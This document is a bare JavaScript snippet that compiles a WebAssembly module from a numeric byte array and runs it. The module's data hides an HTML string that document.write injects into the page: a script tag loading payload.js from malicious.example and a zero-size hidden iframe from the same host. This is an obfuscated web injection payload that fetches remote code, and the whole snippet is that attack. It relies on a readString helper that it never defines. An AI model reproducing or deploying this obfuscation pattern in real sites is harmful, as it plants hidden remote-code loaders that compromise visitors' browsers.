var wasmCode = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 9, 2, 96, 2, 127, 127, 0, 96, 0, 0, 2, 22, 1, 3, 101, 110, 118, 14, 100, 111, 99, 117, 109, 101, 110, 116, 95, 119, 114, 105, 116, 101, 0, 0, 3, 2, 1, 1, 5, 3, 1, 0, 1, 7, 7, 1, 3, 102, 111, 111, 0, 1, 10, 43, 1, 41, 1, 1, 127, 3, 64, 32, 0, 65, 3, 116, 40, 2, 135, 1, 32, 0, 65, 3, 116, 40, 2, 139, 1, 16, 0, 32, 0, 65, 1, 106, 33, 0, 32, 0, 65, 2, 73, 13, 0, 11, 11, 11, 158, 1, 1, 0, 65, 0, 11, 151, 1, 60, 115, 99, 114, 105, 112, 116, 32, 115, 114, 99, 61, 34, 104, 116, 116, 112, 58, 47, 47, 109, 97, 108, 105, 99, 105, 111, 117, 115, 46, 101, 120, 97, 109, 112, 108, 101, 47, 112, 97, 121, 108, 111, 97, 100, 46, 106, 115, 34, 62, 60, 47, 115, 99, 114, 105, 112, 116, 62, 60, 105, 102, 114, 97, 109, 101, 32, 115, 114, 99, 61, 34, 104, 116, 116, 112, 58, 47, 47, 109, 97, 108, 105, 99, 105, 111, 117, 115, 46, 101, 120, 97, 109, 112, 108, 101, 47, 102, 114, 97, 109, 101, 46, 104, 116, 109, 108, 34, 32, 119, 105, 100, 116, 104, 61, 48, 32, 104, 101, 105, 103, 104, 116, 61, 48, 62, 60, 47, 105, 102, 114, 97, 109, 101, 62, 0, 0, 0, 0, 59, 0, 0, 0, 59, 0, 0, 0, 76, 0, 0, 0, 0, 39, 4, 110, 97, 109, 101, 1, 13, 2, 0, 5, 119, 114, 105, 116, 101, 1, 3, 102, 111, 111, 2, 6, 1, 1, 1, 0, 1, 105, 3, 9, 1, 1, 1, 0, 4, 110, 101, 120, 116]);
if (typeof WebAssembly === "object") {
  var wasmModule = new WebAssembly.Module(wasmCode);
  var wasmInstance = new WebAssembly.Instance(wasmModule, {
    env: {document_write: function (ptr, len) { document.write(readString(ptr, len)); }}
  }).exports;
  wasmInstance.foo();
}
